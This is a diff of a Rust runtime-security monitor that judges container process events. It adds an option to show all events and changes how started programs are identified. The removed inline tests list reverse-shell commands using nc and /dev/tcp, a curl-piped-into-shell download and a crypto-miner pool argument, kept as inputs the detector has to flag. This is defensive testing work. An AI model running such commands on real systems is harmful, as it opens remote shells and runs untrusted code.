@@ -6,11 +6,12 @@ use std::time::{Duration, Instant};
 use foldhash::HashMap;
 
 use haechi_core::alert::{ALERT_SCHEMA, Alert, AlertContainer, Ancestor};
-use haechi_core::event::{Action, Event, Exec, Origin};
+use haechi_core::event::{Action, Event, EventLine, Exec, Origin};
 use haechi_rules::Rules;
 use jiff::{SignedDuration, Timestamp};
 
 use crate::container::{Container, Containers};
+use crate::identity::{Identity, LOADER};
 use crate::judged_before::JudgedBefore;
 use crate::running;
 use crate::tree::Tree;
@@ -48,10 +49,12 @@ pub struct Judged {
     pub pid: u32,
     /// What rules said.
     pub alerts: Vec<Alert>,
+    /// The event itself, if all are shown.
+    pub event: Option<Box<EventLine>>,
 }
 
-/// A program of an image, as it is told apart without reading it: control group, inode, time of the last change.
-type ProgramKey = (u64, u64, i64);
+/// A program of an image, as it is told apart without reading it: control group, path, inode, time of the last change.
+type ProgramKey = (u64, String, u64, i64);
 
 /// Judges events.
 pub struct Monitor {
@@ -68,6 +71,8 @@ pub struct Monitor {
     pub tree: Tree,
     /// Containers.
     pub containers: Containers,
+    /// Whether all events are shown.
+    pub shows: bool,
 }
 
 impl Monitor {
@@ -83,6 +88,7 @@ impl Monitor {
             programs: HashMap::default(),
             tree: Tree::default(),
             containers: Containers::default(),
+            shows: false,
         }
     }
 
@@ -171,9 +177,14 @@ impl Monitor {
         if matches!(event.action, Action::Exec(_) | Action::Exit(_)) {
             self.before.change();
         }
+        let line = self.shows.then(|| Box::new(self.line(event)));
         let mark = self.before.mark(event);
         if mark.is_some_and(|mark| self.before.is_known(mark)) {
-            return None;
+            return line.map(|line| Judged {
+                pid: event.process.pid,
+                alerts: Vec::new(),
+                event: Some(line),
+            });
         }
         let mut held = false;
         if let Action::Exec(exec) = &event.action {
@@ -186,7 +197,14 @@ impl Monitor {
         if let Some(mark) = mark.filter(|_| alerts.is_empty()) {
             self.before.remember(mark);
         }
-        (held || !alerts.is_empty()).then_some(Judged { pid: event.process.pid, alerts })
+        let is_said = held || line.is_some() || !alerts.is_empty();
+        is_said.then_some(Judged { pid: event.process.pid, alerts, event: line })
+    }
+
+    /// The event as it is shown.
+    fn line(&self, event: &Event) -> EventLine {
+        let container = self.containers.get(event.cgroup).map(named).unwrap_or_default();
+        EventLine::new(self.clock.at(event.at), container, event.clone())
     }
 
     fn alerts(&self, event: &Event, tree: &Tree) -> Vec<Alert> {
@@ -196,29 +214,31 @@ impl Monitor {
         matching.map(|rule| self.alert(rule, event, container, &view)).collect()
     }
 
-    /// Whether the content of a started program should be looked at: it was not yet, or may have changed since.
+    /// Whether the content of a started program should be looked at: it was not yet, or may have changed since, or it is
+    /// a loader, which runs another one each time.
     pub fn wants_identity(&self, event: &Event) -> bool {
         let Action::Exec(exec) = &event.action else { return false };
         // What is not of the image can be changed in place, and its time set back.
         if exec.origin != Origin::Image {
             return true;
         }
-        !self.programs.contains_key(&key(event, exec))
+        self.programs.get(&key(event, exec)).is_none_or(|program| program == LOADER)
     }
 
-    /// Takes what the content of a started program was found to be (nothing, if it is none that is listed), and judges its start once more: by what it is now
-    /// known to be. What was told before is not told again.
-    pub fn identified(&mut self, event: &Event, program: &str) -> Judged {
+    /// Takes what a started program was found to be, and judges its start once more: by what it is now known to be. What
+    /// was told before is not told again.
+    pub fn identified(&mut self, event: &Event, found: &Identity) -> Judged {
+        let program = &found.runs;
         if let Action::Exec(exec) = &event.action
             && exec.origin == Origin::Image
         {
             if self.programs.len() >= PROGRAMS_MAX {
                 self.programs.clear();
             }
-            self.programs.insert(key(event, exec), program.to_owned());
+            self.programs.insert(key(event, exec), found.file.clone());
         }
         if program.is_empty() {
-            return Judged { pid: event.process.pid, alerts: Vec::new() };
+            return Judged { pid: event.process.pid, alerts: Vec::new(), event: None };
         }
         let mut then = self.tree.at_start_of(event);
         let before = self.alerts(event, &then);
@@ -227,7 +247,7 @@ impl Monitor {
         then.name(event, program);
         let mut alerts = self.alerts(event, &then);
         alerts.retain(|alert| !before.iter().any(|told| told.rule == alert.rule));
-        Judged { pid: event.process.pid, alerts }
+        Judged { pid: event.process.pid, alerts, event: None }
     }
 
     fn alert(
@@ -266,7 +286,7 @@ impl Monitor {
 }
 
 fn key(event: &Event, exec: &Exec) -> ProgramKey {
-    (event.cgroup, exec.inode, exec.modified)
+    (event.cgroup, exec.path.clone(), exec.inode, exec.modified)
 }
 
 fn named(container: &Container) -> AlertContainer {
@@ -281,108 +301,4 @@ fn named(container: &Container) -> AlertContainer {
 }
 
 #[cfg(test)]
-mod tests {
-    use haechi_core::event::{Network, Process, Socket};
-
-    use super::*;
-    use crate::fields::Fields;
-
-    fn monitor() -> Monitor {
-        let rules = Rules::load(&[crate::RULES], &Fields).rules;
-        let mut monitor =
-            Monitor::new(rules, Clock { started: Timestamp::UNIX_EPOCH }, "host".into());
-        monitor.containers.begin(7, &"ab".repeat(32), "/docker/x", 1);
-        monitor
-    }
-
-    fn event(call: &str, action: Action) -> Event {
-        let process = Process { pid: 9, tid: 9, started: 5, ..Process::default() };
-        Event { at: 2_000_000_000, cgroup: 7, process, call: call.into(), result: 0, action }
-    }
-
-    fn exec(path: &str, args: &[&str]) -> Event {
-        let args = args.iter().map(|arg| (*arg).to_owned()).collect();
-        let exec = Exec { path: path.into(), args, ..Exec::default() };
-        let mut event = event("execve", Action::Exec(Box::new(exec)));
-        event.process.name = path.rsplit('/').next().unwrap_or_default().into();
-        event
-    }
-
-    fn all(judged: impl IntoIterator<Item = Judged>) -> Vec<Alert> {
-        judged.into_iter().flat_map(|one| one.alerts).collect()
-    }
-
-    fn rules(event: &Event) -> Vec<String> {
-        all(monitor().judge(event.clone())).into_iter().map(|alert| alert.rule).collect()
-    }
-
-    #[test]
-    fn a_rule_that_matches_is_an_alert_with_all_that_is_known() {
-        let alerts = all(monitor().judge(exec("/usr/sbin/sshd", &["sshd", "-D"])));
-        let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
-        assert_eq!(alert.at, "1970-01-01T00:00:02Z".parse().unwrap());
-        assert_eq!((alert.program.as_str(), alert.command.as_str()), ("/usr/sbin/sshd", "sshd -D"));
-        assert_eq!(alert.checks, ["container-no-ssh-server"]);
-        assert_eq!(alert.container.id.len(), 64);
-        assert!(alert.text.contains("command=sshd -D"), "{}", alert.text);
-    }
-
-    #[test]
-    fn events_wait_for_the_name_but_not_for_ever() {
-        let ssh = || exec("/usr/sbin/sshd", &["sshd"]);
-        let begin = Instant::now();
-        let mut named = monitor();
-        assert!(named.see(ssh(), begin).is_empty());
-        let told = Container { id: "ab".repeat(32), name: "web".into(), ..Container::default() };
-        assert_eq!(named.learn(&told).len(), 1);
-        let at_once = all(named.see(ssh(), begin));
-        assert_eq!(at_once.iter().map(|a| a.container.name.as_str()).collect::<Vec<_>>(), ["web"]);
-
-        let mut nameless = monitor();
-        assert!(nameless.see(ssh(), begin).is_empty() && nameless.tick(begin).is_empty());
-        assert_eq!(nameless.tick(begin + NAME_WAIT).len(), 1);
-        assert_eq!(nameless.see(ssh(), begin + NAME_WAIT).len(), 1, "it has waited once");
-        let mut ended = monitor();
-        assert!(ended.see(ssh(), begin).is_empty());
-        assert_eq!((ended.rest().len(), ended.rest().len()), (1, 0));
-    }
-
-    #[test]
-    fn what_attackers_do_and_what_everybody_does() {
-        for (path, args, rule) in [
-            ("/bin/nc", &["nc", "10.0.0.1", "9", "-e", "/bin/sh"][..], "Reverse shell"),
-            ("/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/9"], "Reverse shell"),
-            ("/bin/sh", &["sh", "-c", "curl -s site | sh"], "Download piped into a shell"),
-            ("/tmp/a", &["a", "-o", "stratum+tcp://pool:1"], "Crypto miner"),
-            (
-                "/usr/bin/apt-get",
-                &["apt-get", "install", "x"],
-                "Package manager run in a container",
-            ),
-        ] {
-            assert_eq!(rules(&exec(path, args)), [rule], "{path}");
-        }
-        for (path, args) in [
-            ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"][..]),
-            ("/bin/nc", &["nc", "-z", "db", "5432"]),
-            ("/bin/sh", &["sh", "-c", "curl -fsS site/health || exit 1"]),
-            ("/usr/bin/ssh", &["ssh", "host"]),
-        ] {
-            assert_eq!(rules(&exec(path, args)), [""; 0], "{path}");
-        }
-    }
-
-    #[test]
-    fn the_engine_socket_is_known_by_its_name() {
-        let network = |path: &str| Network {
-            socket: Socket::Unix,
-            local: None,
-            remote: None,
-            path: path.into(),
-            payload: Vec::new(),
-        };
-        let connect = |path: &str| event("connect", Action::Network(network(path)));
-        assert_eq!(rules(&connect("/var/run/docker.sock")), ["Engine socket used by a container"]);
-        assert_eq!(rules(&connect("/run/app.sock")), [""; 0]);
-    }
-}
+mod tests;
